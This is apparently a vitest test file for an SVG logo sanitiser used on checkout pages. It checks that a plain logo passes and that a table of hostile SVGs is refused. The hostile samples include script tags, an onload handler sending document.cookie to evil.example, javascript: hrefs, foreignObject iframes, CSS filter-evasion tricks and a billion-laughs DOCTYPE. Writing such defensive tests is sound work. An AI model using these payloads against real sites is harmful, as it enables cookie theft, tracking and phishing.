import { describe, expect, it } from 'vitest';
import { checkSvg } from '../src/index.js';

const svg = (inside: string, rootAttributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${rootAttributes}>${inside}</svg>`;
const PNG = 'data:image/png;base64,iVBORw0KGgo=';

describe('a brand logo (served as SVG on checkout pages)', () => {
  it('passes when it only draws: shapes, text, gradients by #id, embedded raster images', () => {
    const logo = svg(
      '<title>Acme</title><defs><linearGradient id="g"><stop offset="0" stop-color="#1d4ed8"/></linearGradient></defs>' +
        '<rect class="a" width="10" height="10" fill="url(#g)"/>' +
        `<use href="#g"/><image xlink:href="${PNG}" width="1" height="1"/><text x="1" y="9">Acme</text>`,
    );
    expect(checkSvg(`<?xml version="1.0" encoding="UTF-8"?>\n${logo}`, 'logo.svg')).toEqual([]);
  });

  it.each([
    ['a script element', svg('<script>alert(document.cookie)</script>'), 'logo.svg: a <script> element is not allowed'],
    ['a script in upper case', svg('<SCRIPT>alert(1)</SCRIPT>'), 'a <SCRIPT> element is not allowed'],
    [
      'an event handler',
      svg('<rect width="1" height="1"/>', ' onload="fetch(`//evil.example?`+document.cookie)"'),
      'event handler attribute onload="fetch(`//evil.example?`+document.cookie)" on <svg>',
    ],
    // XML names are case-sensitive, but an SVG inlined into HTML has its attribute names lower-cased.
    ['an event handler in upper case', svg('<rect ONCLICK="x()"/>'), 'event handler attribute ONCLICK="x()"'],
    [
      'foreignObject (HTML inside SVG)',
      svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>'),
      '<foreignObject> is not allowed (it embeds HTML)',
    ],
    [
      'an HTML element',
      svg('<h:div xmlns:h="http://www.w3.org/1999/xhtml">x</h:div>'),
      '<h:div> is outside the SVG namespace',
    ],
    ['an HTML tag that breaks out of inline SVG', svg('<img src="x"/>'), '<img> is not a drawing element'],
    ['a link', svg('<a href="https://evil.example/login"><text>Pay here</text></a>'), '<a> is not a drawing element'],
    [
      'SMIL rewriting an href to javascript:',
      svg('<use href="#g"><set attributeName="href" to="javascript:alert(1)"/></use>'),
      '<set> is not a drawing element',
    ],
    [
      'an external image',
      svg('<image href="https://tracker.example/pixel.png"/>'),
      'external reference href="https://tracker.example/pixel.png" on <image>',
    ],
    [
      'an external xlink:href',
      svg('<use xlink:href="https://evil.example/sprite.svg#a"/>'),
      'xlink:href="https://evil',
    ],
    ['a javascript: href', svg('<use href=" javascript:alert(1)"/>'), 'external reference href=" javascript:alert(1)"'],
    [
      'an HTML data: URL',
      svg('<image href="data:text/html;base64,PHNjcmlwdD4="/>'),
      'external reference href="data:text/html;base64,PHNjcmlwdD4=" on <image>',
    ],
    [
      'an SVG data: URL, which could hide anything',
      svg('<image href="data:image/svg+xml;base64,PHN2Zz4="/>'),
      'external reference href="data:image/svg+xml',
    ],
    ['a relative file', svg('<image href="../../otp-verify.js"/>'), 'external reference href="../../otp-verify.js"'],
    ['an external url() in a fill', svg('<rect fill="url(https://evil.example/p.svg#x)"/>'), 'external url() in fill='],
    // A logo inlined in a page could restyle the page: no CSS at all, however it is spelt.
    ['a style element', svg('<style>rect { fill: red }</style>'), '<style> is not allowed'],
    ['@import split by an element', svg('<style>@imp<g/>ort "https://evil.example/x.css";</style>'), '<style>'],
    [
      '@import split across CDATA',
      svg('<style><![CDATA[@imp]]><![CDATA[ort "//evil.example/x.css";]]></style>'),
      '<style>',
    ],
    ['a CSS-escaped url()', svg('<style>rect { fill: \\75 rl(https://evil.example/p.svg#x) }</style>'), '<style>'],
    [
      'image-set() in a style attribute',
      svg(`<rect style="fill: image-set('https://tracker.example/p.png' 1x)"/>`),
      'a style attribute style="fill: image-set(',
    ],
    [
      'a CSS-escaped url() in a presentation attribute',
      svg('<rect mask="\\75 rl(https://evil.example/m.svg#m)"/>'),
      'a CSS escape or image function in mask=',
    ],
    [
      'image-set() in a presentation attribute',
      svg(`<rect mask="image-set('https://tracker.example/p.png' 1x)"/>`),
      'a CSS escape or image function in mask=',
    ],
    ['a style attribute in upper case', svg('<rect STYLE="display: none"/>'), 'a style attribute STYLE='],
    [
      'a DOCTYPE with entities (billion laughs)',
      '<!DOCTYPE svg [<!ENTITY a "aaaaaaaa">]>' + svg('<text>&a;</text>'),
      'a DOCTYPE is not allowed',
    ],
    [
      'an xml-stylesheet instruction',
      '<?xml-stylesheet href="https://evil.example/x.css"?>' + svg(''),
      'the processing instruction <?xml-stylesheet?> is not allowed',
    ],
    [
      'HTML instead of SVG',
      '<html><body><script>alert(1)</script></body></html>',
      'the root element is <html>, not <svg>',
    ],
    ['an SVG outside the SVG namespace', '<svg><rect/></svg>', '<svg> is outside the SVG namespace'],
    ['markup that is not well-formed', '<svg xmlns="http://www.w3.org/2000/svg"><rect></svg>', 'not well-formed XML'],
  ])('is refused with %s', (_, logo, message) => {
    expect(checkSvg(logo, 'logo.svg')).toContainEqual(expect.stringContaining(message));
  });
});
